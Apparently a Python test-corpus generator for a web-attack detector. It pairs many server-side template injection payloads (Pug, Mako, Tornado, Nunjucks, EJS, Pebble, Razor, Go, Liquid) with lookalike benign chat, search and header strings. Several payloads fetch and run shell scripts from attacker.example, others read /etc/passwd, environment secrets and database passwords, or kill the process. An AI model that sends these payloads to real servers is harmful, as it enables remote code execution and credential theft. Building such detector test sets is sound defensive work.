    HB_CHAIN.replace("{{", "{{~").replace("{code}", "process.kill(process.pid);"),
    "{{#each this}}{{@key}}={{this}} {{/each}}",
    "{{#with (lookup this \"constructor\")}}{{#with (lookup this \"prototype\")}}{{@key}}{{/with}}{{/with}}",
]
# Target: Pug / Jade (Node.js)
PUG: list[Entry] = [
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    ".exec('curl attacker.example/p.sh|sh')}()}",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "- global.process.mainModule.require('child_process').exec('touch /tmp/pug')",
    "= process.mainModule.require('fs').readFileSync('/etc/passwd')",
    "p #{7*7}",
    "!{global.process.env}",
    "include /etc/passwd",
    "script.\n  #{process.mainModule.require('child_process').execSync('whoami')}",
    "#{new Function('return process')().mainModule.require('child_process').execSync('id')}",
]
# Target: Mako (Python)
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system(\"id\")}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${__import__('os').popen('whoami').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.module.runtime.util.os.system('id')}",
    "${open('/etc/passwd').read()}",
    "% for a in __import__('os').listdir('/'):\n${a}\n% endfor",
    "${7*7}",
    "<%\nimport os\nos.system('touch /tmp/mako')\n%>",
]
# Target: Tornado templates (Python)
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen(\"id\").read() }}",
    "{% import subprocess %}{{ subprocess.check_output('whoami',shell=True) }}",
    "{{ handler.settings }}",
    "{{ handler.application.settings[\"cookie_secret\"] }}",
    "{% raw __import__('os').system('id') %}",
    "{{__import__(\"os\").popen(\"uname -a\").read()}}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% include \"../../../../etc/passwd\" %}",
    "{% set x = __import__('os').environ %}{{ x }}",
]
# Target: Nunjucks (Node.js)
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor(\"return process.env\")() }}",
    "{{ joiner.constructor(\"return global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")"
    "() }}",
    "{{''.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')}}",
    "{% set x = range.constructor(\"return process.mainModule.require('child_process').execSync('cat /etc/passwd')"
    "\")() %}{{ x }}",
    "{{ range.constructor(\"return this\")().process.env }}",
    "{% include \"/etc/passwd\" %}",
    "{{ range . constructor ( \"return process.mainModule.require('child_process').execSync('id')\" ) () }}",
    "{{range.constructor(\"return global.process.mainModule.constructor._load('child_process').execSync('id')\")()}}",
]
# Target: EJS (Node.js), including the view-options pollution of CVE-2022-29078
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<% global.process.mainModule.require('child_process').exec('curl -s attacker.example/x|sh') %>",
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
     ".execSync('touch /tmp/ejs');s", "param-name", "rs-param-name"),
    ("settings[view options][client]=1&settings[view options][escapeFunction]=1;return process.mainModule"
     ".require('child_process').execSync('id')", "param-name", "rs-raw-body"),
    "<%= this.constructor.constructor('return process')().env %>",
    "<%- include('/etc/passwd') %>",
    "<%= global.process.env.DATABASE_URL %>",
    "<%_ process.kill(process.pid) _%>",
]
# Target: Pebble (Java), old and 3.0.8+ sandbox bypasses and the pebble-spring beans
PEBBLE: list[Entry] = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{% set x = \"\".getClass().forName(\"java.lang.Runtime\") %}{{ x.getRuntime().exec(\"whoami\") }}",
    "{% set rt = (1).TYPE.forName('java.lang.Runtime') %}{% set p = rt.methods[6].invoke(null,null)"
    ".exec('uname -a') %}{{ p.inputStream.readAllBytes() }}",
    "{{ \"\".getClass().forName(\"java.lang.ProcessBuilder\").getConstructors()[0].newInstance([\"id\"]).start() }}",
    "{{ beans.get(\"environment\").getProperty(\"spring.datasource.password\") }}",
    "{% for b in beans %}{{ b }} {% endfor %}",
    "{{ request.getSession().getServletContext().getRealPath(\"/\") }}",
]
# Target: Razor (ASP.NET, RazorEngine)
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"powershell.exe\", \"-c iwr http://attacker.example/x.ps1|iex\"); }",
    "@(7*7)",
    "@System.IO.File.ReadAllText(@\"C:\\Windows\\win.ini\")",
    "@foreach(System.Collections.DictionaryEntry e in System.Environment.GetEnvironmentVariables()){@e.Key<text>="
    "</text>@e.Value}",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = "
    "\"/c net user\"; p.Start(); }",
    "@string.Join(\",\", System.IO.Directory.GetFiles(@\"C:\\inetpub\\wwwroot\"))",
    "@(new System.Net.WebClient().DownloadString(\"http://attacker.example/c\"))",
    "@Html.Raw(System.IO.File.ReadAllText(\"/etc/passwd\"))",
]
# Target: Go text/template and html/template, and the function maps of Sprig (Helm), Hugo and gomplate
GO_TEMPLATES: list[Entry] = [
    "{{.}}",
    "{{printf \"%#v\" .}}",
    "{{ range $k, $v := . }}{{ $k }}={{ $v }} {{ end }}",
    "{{define \"x\"}}<img src=x onerror=alert(document.domain)>{{end}}{{template \"x\"}}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ file.Read \"/etc/passwd\" }}",
    "{{ getenv \"DATABASE_URL\" }}",
    "{{ .Files.Get \"../../etc/passwd\" }}",
]
# Target: Liquid (Shopify, Jekyll, LiquidJS)
LIQUID: list[Entry] = [
    "{{ 7 | times: 7 }}",
    "{% include '../../../../etc/passwd' %}",
    "{% include_relative ../../../../etc/passwd %}",
    "{% render '/etc/passwd' %}",
    "{% for p in site.pages %}{{ p.path }} {% endfor %}",
    "{% assign x = \"x\" | split: \"\" %}{% for i in (1..10000000) %}{{ x }}{% endfor %}",
    "{% capture p %}{% include \"/proc/self/environ\" %}{% endcapture %}{{ p }}",
    "{{ site | jsonify }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_CHILD_PROCESS),
    ("generic", "nodejs-injection", NODE_PROCESS_FS),
    ("generic", "nodejs-injection", NODE_FUNCTION_EVAL),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "ruby-injection", RUBY_YAML),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIALIZATION),
    ("java", "deserialization-gadgets", JAVA_GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION_LANGUAGE),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# raw serialization streams (latin-1 text): only percent-encoded carriers take their bytes
LATIN = {_latin(raw) for raw in (SER_STRING, SER_HASHMAP, SER_CMD_ARRAY, SER_LIST, SER_INT, CC6_ID, CC1_TOUCH,
                                 JDK7U21)}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    rs_cycle = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent",
                "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie", "rs-param-name", "rs-path"]
    names = ["q", "filter", "name", "template", "url", "callback", "data", "sort", "message", "expr"]
    fallback = ["json", "form", "query", "multipart-field"]
    rs_fallback = ["rs-json", "rs-form", "rs-query", "rs-xml"]
    boundary = "----WebKitFormBoundaryH150q7ZxKd3mWv2p"
    kv_safe = "=&[]._-:/'*$!(),;{}~@%"
    upload = JSP_BODY
    rs_upload = "/upload"
    documents = True   # XStream, XMLDecoder and SOAP payloads are the document
    raw_places = ("param-name", "path", "rs-param-name", "rs-path")
    raw_tail = True
    short = ("path", "rs-path", "param-name", "rs-param-name")

    def entries(self) -> Iterator[tuple[int, int, str, str, Entry]]:
        # one index across the whole set, counted from 1
        i = 0
        for s, (category, sub, entries) in enumerate(self.families):
            for entry in entries:
                i += 1
                yield s, i, category, sub, entry

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload in LATIN

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed   # a fixed entry is `name=value`, an encoded path or a whole body

    def _p_raw_form(self, p: Put) -> Record:   # the payload is itself `name=value` (binding, pollution)
        return self._p_form(p._replace(raw=True))

    def _p_cookie_raw(self, p: Put) -> Record:
        return request("GET", self.list_uri, Cookie="session=abc123; " + p.v)

    def _p_put(self, p: Put) -> Record:
        return request("PUT", "/api/users" + p.v, JSP_BODY, "application/octet-stream")

    def _p_rs_cookie_raw(self, p: Put) -> Record:
        return request("GET", p.path, Cookie=p.v)

    def _p_rs_put(self, p: Put) -> Record:
        return request("PUT", p.v, JSP_BODY, "application/octet-stream")


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product names, keywords and syntax, typed innocently (Slack chat and bios, searches, links,
# admin notes, profiles, upload names, ordinary headers)
CHAT = [
    "heads up: the Node 22 upgrade broke the image worker, it still calls child_process.fork with the old flags",
    "can someone review my PR? I replaced the exec call with execFile so the filename never hits a shell",
    "why does require() return an empty object here? circular import between user.js and team.js I think",
    "process.env.PORT is undefined on the new box, did we forget the .env file?",
    "the vm module is not a security boundary, the Node docs say so in bold",
    "eval is banned by our eslint config (no-eval), please don't disable the rule",
    "new Function() also counts as eval for the CSP, that's why the chart lib breaks",
    "our API hit the event loop lag alert again, someone wrote a while loop waiting on a flag",
    "the regex for email validation took 4 seconds on a long input, classic ReDoS, swapping it for a library",
    "Buffer.alloc vs Buffer.allocUnsafe: use alloc unless you fill the whole thing yourself",
    "the webhook tester now refuses private IPs (10.x, 172.16-31.x, 192.168.x) and localhost",
    "IMDSv2 is enforced on all EC2 instances now, hop limit is 1 so containers can't reach it",
    "GKE workload identity is on; pods no longer read the metadata server directly",
    "note for oncall: 169.254.169.254 timeouts in the logs are the SDK probing for credentials, harmless",
    "Azure managed identity token refresh failing, the api-version on our call was too old",
    "local dev: the app listens on 127.0.0.1:8080, the admin on localhost:8081",
    "redis on port 6379 is only bound to the docker network, not the host",
    "we had a prototype pollution advisory in lodash again, bumped to 4.17.21",
    "please freeze objects from JSON.parse before merging them into config, the __proto__ key thing",
    "in JS every object has a constructor and a prototype, that's why the deep merge needs a key allowlist",
    "Rails 7.1 is out for us next sprint; YAML.load is now safe_load by default",
    "the rake task uses system() to call pg_dump, should we move it to Open3?",
    "Ruby's Kernel#open with a pipe at the start runs a command, use File.open for paths",
    "backticks in the deploy script are fine, it's our own Ruby and not user input",
    "still have one Perl CGI script for the old mailing list, it uses open with three arguments",
    "Perl one-liner for the log cleanup: perl -pi -e 's/foo/bar/g' *.conf",
    "Java 21 upgrade done for the billing service, ProcessBuilder calls moved to the sidecar",
    "Runtime.getRuntime().availableProcessors() returns the container limit since JDK 10",
    "the class loader leak on redeploy is the JDBC driver, register it in the server lib instead",
    "Jackson default typing stays off, and we use @JsonTypeInfo with a named subtype list",
    "fastjson is gone from the payments repo, replaced with Jackson everywhere",
    "XStream allowlist is configured, only our DTO package can be deserialized",
    "we don't use Java serialization on the wire anymore, it's protobuf between services",
    "log4j is on 2.23.1, the jndi lookup class isn't even in the jar anymore",
    "Struts is only in the legacy HR portal and that one is behind the VPN",
    "SpEL in @Value annotations is fine, never on strings from requests",
    "the Spring4Shell advisory doesn't apply to us, we're on Boot jar packaging not WAR on Tomcat",
    "OGNL errors in the old portal logs again, somebody's scanner hitting it",
    "JSP pages are gone from the admin app, it's Thymeleaf templates now",
    "upload allowlist: jpg, png, pdf, docx; no jsp, war or html",
    "Jinja2 autoescape is on in the email templates, don't mark user names as safe",
    "the welcome email template uses {{ user.first_name }} and falls back to 'there'",
    "in Jinja you can do {% for item in cart %}{{ item.name }}{% endfor %}, no need for a macro",
    "Twig filter for prices: {{ price|number_format(2, '.', ',') }}",
    "FreeMarker template shows ${order.total} without the currency, need ?string.currency",
    "Velocity in the old Confluence theme uses $generalUtil for dates",
    "Thymeleaf: th:text=\"${user.name}\" escapes, th:utext doesn't, use th:text",
    "the ERB partial prints <%= @user.name %> and the mailer view has <%= link_to 'Reset', url %>",
    "Smarty template {$title|escape} on the legacy PHP site still works after the upgrade",
    "Handlebars helper {{#each items}}{{this.name}}{{/each}} renders the list in the invoice",
    "pug indentation error again, mixing tabs and spaces in layout.pug",
    "Mako template in the reporting tool, ${report.title} is escaped with the h filter",
    "Tornado's {% module xsrf_form_html() %} goes inside every form",
    "Nunjucks in the docs site: {{ page.title | upper }} in the header",
    "EJS layout uses <%- include('partials/header') %> and <%= title %>",
    "Pebble templates in the Java mailer: {{ customer.name | capitalize }}",
    "Razor view shows @Model.UserName in the nav bar, @Html.AntiForgeryToken() in the form",
    "helm chart values: image tag is {{ .Values.image.tag }}, don't hardcode it",
    "Go html/template escapes {{.Name}} by context, so no manual escaping there",
    "Shopify theme: {{ product.title }} and {{ product.price | money }} on the card",
    "Jekyll site build fails: Liquid syntax error in _includes/footer.html, unclosed {% if %}",
    "the template preview shows {{7*7}} literally, which is what we want (no evaluation of user text)",
    "data: URLs for inline icons are allowed by the CSP for img-src only",
    "PHP include paths are whitelisted, allow_url_include has been Off for years",
    "the OWASP ZAP scan flagged SSRF on the avatar URL field; we fixed it with an allowlist of hosts",
    "WAF blocked my curl to the staging API because I had ${HOME} in the JSON body, lol",
    "dev tip: node --inspect=127.0.0.1:9229 app.js, never bind the inspector to 0.0.0.0",
    "the Java agent for APM is loaded with -javaagent in JAVA_TOOL_OPTIONS",
    "docs for the expression language in our rule engine: price > 100 && country == 'PT'",
    "anyone else get the 'Unexpected token < in JSON' error from the proxy?",
    "cron job runs every 5 minutes: */5 * * * * /opt/app/bin/cleanup",
    "Perl's taint mode would have caught that, shame nobody uses -T anymore",
    "rubocop flags Kernel#eval as Security/Eval, good",
    "the Node DoS advisory was about a slow regex in the URL parser, patched in 20.11.1",
]
SEARCHES = [
    "node child_process", "ruby on rails", "perl developer", "java spring boot", "log4j upgrade",
    "jinja2", "twig templates", "freemarker", "velocity engine", "thymeleaf", "handlebars", "pug",
    "mako templates", "tornado", "nunjucks", "ejs", "pebble", "razor pages", "go templates", "liquid shopify",
    "metadata service", "localhost", "prototype", "struts migration", "jackson databind", "xstream",
]
URLS = [
    "https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback",
    "https://nodejs.org/api/vm.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://portswigger.net/web-security/prototype-pollution",
    "https://guides.rubyonrails.org/security.html",
    "https://perldoc.perl.org/functions/open",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://spring.io/security/cve-2022-22965",
    "https://cwiki.apache.org/confluence/display/WW/S2-045",
    "https://github.com/FasterXML/jackson-docs/wiki/JacksonPolymorphicDeserialization",
    "https://x-stream.github.io/security.html",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/filter.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://handlebarsjs.com/guide/block-helpers.html",
    "https://shopify.dev/docs/api/liquid/filters",
    "https://pkg.go.dev/text/template",
]
PROSE = [
    "Customer reports the invoice template shows {{ customer.name }} instead of their name after the update",
    "Ticket 4471: user pasted ${jndi} in the feedback form asking if we were affected by Log4Shell; replied no",
    "Request from security: list every service still on Java 8 and every one using Java serialization",
    "Audit note: the export job uses Runtime.exec for pdftotext, move it to ProcessBuilder with an arg list",
    "The Node service's /health endpoint reported event loop delay above 500ms during the batch import",
    "Customer asked whether our webhooks can call http://localhost for testing; told them to use a tunnel",
    "Reminder: the staging server's metadata endpoint is blocked by the iptables rule since last quarter",
    "Partner integration uses a YAML config file; we parse it with safe_load only",
    "The Perl cron that rotates logs was replaced by logrotate, remove the script from the box",
    "Release 4.2: templates now support {% if %} blocks and the | default filter",
    "Release 4.3: template preview no longer evaluates expressions, it renders placeholders as text",
    "Support: user cannot upload report.jsp.pdf, the name check rejects it; asked them to rename the file",
    "Migration plan: Velocity to Thymeleaf for the notification emails, keep $name variables mapped",
    "Pen test finding 7 (low): verbose Struts error page reveals the OGNL version; fix by custom error page",
    "Pen test finding 12 (medium): SSRF in the image proxy to 10.0.0.0/8; fixed by resolving and pinning IPs",
    "Engineering review: prototype pollution in the query parser, fixed by Object.create(null) for params",
    "On-call summary: Redis on 127.0.0.1:6379 restarted at 03:12, no data loss",
    "Knowledge base: how to write Liquid templates for order confirmations ({{ order.number }})",
    "Knowledge base: Razor syntax basics, @Model and @foreach in the customer portal",
    "Knowledge base: Go templates in Helm charts, {{ .Release.Name }} and {{ include }}",
    "Changelog: removed the ERB based mail previews, they now use ViewComponent",
    "Customer asked why the Handlebars {{#if}} block in their email template is ignored; missing {{/if}}",
    "Data team: the Jupyter notebook uses Jinja2 to render SQL; keep the parameters bound, not formatted",
    "Vendor questionnaire: do you use Apache Commons Collections? Yes, 4.4, no InvokerTransformer usage",
    "Vendor questionnaire: is deserialization of untrusted data possible? No, JSON only with fixed types",
    "Infra: move the Tomcat manager app off the public connector, bind it to 127.0.0.1 only",
    "Bug: the Mako report shows ${total} literally when the variable is missing; use strict_undefined",
    "Bug: EJS partial include('footer') fails on Windows paths",
    "Training slides: SSTI, SSRF and deserialization, examples from the OWASP Top 10",
    "Customer wrote: my company name is Process & Spawn Ltd, please fix the invoice header",
]
PROFILES = [
    ("Ruby Delgado", "Rua do Perl 12, Lisboa"), ("Jinja Okafor", "12 Template Lane, Leeds"),
    ("Node Analytics GmbH", "Prozessstraße 4, Berlin"), ("Java House Coffee", "88 Bean Street, Seattle"),
    ("Velocity Logistics", "Unit 7, Runtime Business Park, Reading"), ("Pebble & Stone Ltd", "3 Quarry Rd, Bath"),
    ("Twig Florist", "Place du Marché 5, Lyon"), ("Liquid Labs", "Av. Constructor 220, São Paulo"),
    ("Razor Sharp Barbers", "14 Spring Gardens, Manchester"), ("Tornado Alley Storm Tours", "Moore, OK 73160"),
    ("Mako Diving Centre", "Marina 9, Malta"), ("Pearl Perl", "Kernel Street 1, Dublin"),
    ("Thyme Leaf Bistro", "Rua das Ervas 2, Porto"), ("Gadget Repair Shop", "42 Chain Road, Birmingham"),
    ("Log Cabin Rentals", "Forest Way 4, Tahoe"),
]
UPLOAD_NAMES = [
    "spring-boot-migration-notes.pdf", "log4j-remediation-2024.xlsx", "welcome_email_jinja.html",
    "invoice-template-v3.twig.txt", "node-upgrade-checklist.docx", "Java Runtime License.pdf",
    "ruby_conf_2024_slides.pdf", "perl-scripts-inventory.csv", "ssrf-pentest-report-final.pdf",
    "prototype_pollution_fix.patch", "handlebars-partials.zip", "metadata-diagram.png",
    "classloader-leak-heapdump-summary.txt", "thymeleaf-layouts.md", "liquid-theme-backup.zip",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                   "Gecko) Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "node"),
    ("User-Agent", "undici"),
    ("User-Agent", "Java-http-client/21.0.3"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "ReactorNetty/1.1.18"),
    ("User-Agent", "Ruby/3.3.1 Net::HTTP"),
    ("User-Agent", "rest-client/2.1.0 (linux x86_64) ruby/3.2.2p53"),
    ("User-Agent", "HTTP-Tiny/0.088"),
    ("User-Agent", "aws-sdk-java/2.25.40 Linux/6.1 OpenJDK_64-Bit_Server_VM/21.0.3+9-LTS Java/21.0.3"),
    ("User-Agent", "Google-Cloud-Tasks"),
    ("Referer", "https://app.example.com/admin/templates/edit?id=42&engine=jinja2"),
    ("Referer", "https://www.bing.com/search?q=log4j+jndi+lookup+disable"),
    ("Referer", "https://github.com/acme/billing/pull/981/files#diff-templates"),
    ("Referer", "https://docs.example.com/guides/webhooks#local-testing"),
    ("X-Api-Version", "2024-06-15"),
    ("X-Forwarded-Proto", "https"),
    ("Accept-Language", "en-GB,en;q=0.9,de;q=0.7"),
    ("Cookie", "session=abc123; editor=freemarker; tz=Europe%2FLisbon"),
    ("Cookie", "session=abc123; recent_search=node%20process; theme=light"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(f"{NAME}-benign", CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
